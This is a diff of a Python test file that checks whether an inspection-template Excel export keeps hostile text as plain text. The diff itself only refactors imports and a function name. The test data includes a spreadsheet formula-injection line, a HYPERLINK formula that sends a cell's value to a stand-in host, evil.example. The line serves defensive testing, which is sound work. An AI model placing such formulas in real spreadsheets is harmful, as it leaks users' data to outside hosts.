@@ -9,9 +9,9 @@ import zipfile
 from openpyxl import load_workbook
 
 from civdesk.services import accounts, rectifications, templates
-from civdesk.services.exchange import excel, template_xlsx
+from civdesk.services.exchange import excel
 from civdesk.services import inspections as insp
-from tests.conftest import picture_bytes
+from tests.helpers.data import picture_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
@@ -87,7 +87,7 @@ def test_template_export_keeps_hostile_text_as_text_and_reimports_unchanged(peop
     data["sections"][0]["items"][1]["guidance"] = HOSTILE[5]
     pk, created = templates.add_version(s, data, by=people.admin)
     assert created
-    path = template_xlsx.export_template(s, "mini", tmp_path / "mini.xlsx")
+    path = templates.export_workbook(s, "mini", tmp_path / "mini.xlsx")
     cells = _string_cells(path)
     for text in ("+小型检查表", "-服务", HOSTILE[0], HOSTILE[5]):
         assert cells[text] == ("s", True), text
